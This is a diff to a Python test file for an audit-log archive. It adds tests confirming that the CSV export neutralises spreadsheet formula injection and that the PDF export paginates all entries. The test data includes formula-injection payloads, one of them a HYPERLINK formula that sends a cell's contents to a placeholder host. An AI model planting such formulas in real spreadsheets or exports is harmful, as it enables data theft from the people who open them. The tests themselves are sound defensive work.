@@ -2,7 +2,9 @@
 signed checkpoints, and 1,000 random mutations that `verify` (and `earchive audit verify`) all catch."""
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import hashlib
 import random
 import shutil
@@ -10,6 +12,7 @@ import threading
 from types import SimpleNamespace
 from pathlib import Path
 
+import pikepdf
 import pytest
 from click.testing import CliRunner
 from sqlalchemy import select, text
@@ -311,3 +314,58 @@ def test_earchive_audit_verify_names_the_first_bad_entry(settings: Settings, tmp
         result = run_verify(copy)
         assert result.exit_code != 0, (kind, result.output)
         assert any(f"first bad entry {seq}:" in result.output for seq in expected), (kind, expected, result.output)
+
+
+# -- exports (findings 4 and 9) ---------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x.example/?\"&A1,\"点此\")", "+1+1", "-2+3", "@SUM(A1)",
+                                  "\t=1+1", "\r=1+1"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(text: str) -> None:
+    from earchive.csv_export import csv_text
+
+    body = csv_text(["事由"], [[text], ["普通事由"], [-5]])
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
+    assert rows[1] == ["'" + text] and rows[2] == ["普通事由"] and rows[3] == ["-5"]
+
+
+def test_the_auditor_csv_neutralises_what_any_user_typed(settings: Settings) -> None:
+    """A failed login's username and a slip's purpose reach the auditor's export unchanged but inert."""
+    from test_web_flow import make_app
+    from context import open_context
+    from access_control.users import create_user
+
+    ctx = open_context(settings, migrate=False)
+    try:
+        with ctx.db.transaction() as s:
+            create_user(s, "auditor", "correct-horse-42", "审计", "auditor", None, "internal")
+        app = make_app(ctx)
+        app.test_client().post("/login", data={"username": "=HYPERLINK(\"http://x.example\")", "password": "x"})
+        auditor = app.test_client()
+        auditor.post("/login", data={"username": "auditor", "password": "correct-horse-42"})
+        body = auditor.get("/audit/export.csv").text
+    finally:
+        ctx.close()
+    rows = list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))
+    usernames = [r[2] for r in rows[1:]]
+    assert "'=HYPERLINK(\"http://x.example\")" in usernames
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_the_pdf_export_holds_every_entry_over_as_many_pages_as_it_takes(settings: Settings) -> None:
+    from pdfminer.high_level import extract_text
+
+    from webapp.auditlog import LogFilter, _log_pdf
+
+    with Database(settings.database_url).transaction() as s:
+        log_ = AccessLog(settings)
+        for i in range(1147):
+            log_.record(s, Actor(None, f"user{i:04d}", None, None, "127.0.0.1"), _event(i))
+        rows = s.scalars(select(AccessLogRecord).order_by(AccessLogRecord.seq)).all()
+        s.expunge_all()
+    pdf = _log_pdf(rows, LogFilter())
+    with pikepdf.open(io.BytesIO(pdf)) as doc:
+        pages = len(doc.pages)
+    text = extract_text(io.BytesIO(pdf))
+    assert pages > 10 and f"第 {pages} / {pages} 页" in text and "共 1147 条" in text
+    assert all(f"user{i:04d}" in text for i in (0, 573, 1146))  # first, middle, last row
+    assert text.count("序号") == pages  # the headings repeat on every page
